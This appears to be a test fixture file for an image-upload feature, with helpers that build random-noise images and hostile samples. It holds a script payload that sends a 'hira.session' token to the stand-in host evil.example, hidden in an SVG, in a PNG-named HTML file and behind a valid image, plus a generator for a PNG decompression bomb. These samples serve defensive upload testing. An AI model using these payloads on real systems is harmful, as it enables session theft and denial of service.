import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";

/** Returns an image of random pixels. No two such images are equal, and none compresses well. */
export function pictureOf(
  format: "jpeg" | "png" | "webp" | "gif" | "avif",
  { width = 120, height = 80 }: { width?: number; height?: number } = {},
): Promise<Buffer> {
  const noise = { type: "gaussian", mean: 128, sigma: 40 } as const;
  return sharp({ create: { width, height, channels: 3, background: "white", noise } })
    .toFormat(format)
    .toBuffer();
}

const SCRIPT = "<script>fetch('https://evil.example/?'+localStorage['hira.session'])</script>";

export const svgWithScript = () =>
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${SCRIPT}</svg>`);

export const htmlNamedPng = () => Buffer.from(`<!doctype html><html><body>${SCRIPT}</body></html>`);

/** Returns a valid image with a script behind it. A program that reads the file as a web page would run the script. */
export const withScriptBehind = (image: Buffer) => Buffer.concat([image, Buffer.from(`\n${SCRIPT}\n`)]);

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type), data]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(data.length, 0);
  frame.writeUInt32BE(crc32(named), 4);
  return Buffer.concat([frame.subarray(0, 4), named, frame.subarray(4)]);
}

/** Returns a file of a few bytes that claims to be a black square with this many pixels on each side. */
export function pixelBomb(side: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.writeUInt8(1, 8);
  return Buffer.concat([
    Buffer.from("89504e470d0a1a0a", "hex"),
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(Buffer.alloc(64))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}
